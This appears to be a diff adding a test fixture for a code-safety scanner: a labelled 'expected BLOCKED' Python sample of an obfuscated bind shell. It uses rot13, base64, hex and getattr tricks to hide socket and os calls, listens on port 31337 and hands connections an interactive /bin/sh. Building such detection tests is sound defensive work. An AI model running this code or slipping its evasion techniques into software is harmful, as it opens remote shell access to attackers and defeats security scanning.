@@ -1,0 +1,13 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/bind_shell.py technique: encode+getattr
+os = __import__(__import__('codecs').decode('bf', 'rot13'))
+socket = __import__(''.join(['s', 'o', 'c', 'k', 'e', 't']))
+subprocess = __import__(__import__('base64').b64decode('c3VicHJvY2Vzcw==').decode())
+server = getattr(socket, bytes.fromhex('736f636b6574').decode())(socket.AF_INET, socket.SOCK_STREAM)
+getattr(server, ''.join(map(chr, [115, 101, 116, 115, 111, 99, 107, 111, 112, 116])))(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+getattr(server, __import__('codecs').decode('ovaq', 'rot13'))((getattr(bytes, 'xehmorf'[::-1])('302e302e302e30').decode(), 31337))
+getattr(server, ''.join(['l', 'i', 's', 't', 'e', 'n']))(1)
+conn, addr = getattr(server, __import__('base64').b64decode('YWNjZXB0').decode())()
+getattr(os, ''.join(map(chr, [100, 117, 112, 50])))(getattr(conn, bytes.fromhex('66696c656e6f').decode())(), 0)
+getattr(os, __import__('codecs').decode('qhc2', 'rot13'))(getattr(conn, 'onelif'[::-1])(), 1)
+getattr(os, __import__('base64').b64decode('ZHVwMg==').decode())(getattr(conn, ''.join(['f', 'i', 'l', 'e', 'n', 'o']))(), 2)
+getattr(subprocess, bytes.fromhex('63616c6c').decode())([''.join(map(chr, [47, 98, 105, 110, 47, 115, 104])), 'i-'[::-1]])
